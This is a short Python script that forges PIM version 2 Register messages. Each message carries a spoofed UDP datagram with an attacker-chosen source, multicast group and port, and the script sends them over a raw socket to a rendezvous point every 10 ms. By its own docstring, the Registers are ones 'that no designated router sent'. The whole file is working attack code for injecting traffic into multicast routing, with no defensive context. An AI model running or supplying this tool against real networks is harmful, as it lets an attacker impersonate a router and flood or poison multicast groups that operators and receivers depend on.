# SPDX-License-Identifier: MIT
"""Sends PIM Registers that no designated router sent, each with a UDP datagram in it.

    python3 forge_register.py RENDEZVOUS_POINT SOURCE GROUP PORT COUNT
"""
import socket
import struct
import sys
import time

PIM = 103
REGISTER = 0x21  # version 2, type 1 (RFC 7761 section 4.9.3)
INTERVAL_S = 0.01


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, group, port, number):
    payload = b"forged %d" % number
    udp = struct.pack("!4H", 4000, port, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), number, 0, 8, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(group))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + udp


def register(inner):
    # The checksum covers these 8 bytes only.
    header = struct.pack("!BBHI", REGISTER, 0, 0, 0)
    return header[:2] + struct.pack("!H", checksum(header)) + header[4:] + inner


point, source, group, port, count = sys.argv[1:]
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, PIM)
for number in range(int(count)):
    sender.sendto(register(packet(source, group, int(port), number)), (point, 0))
    time.sleep(INTERVAL_S)
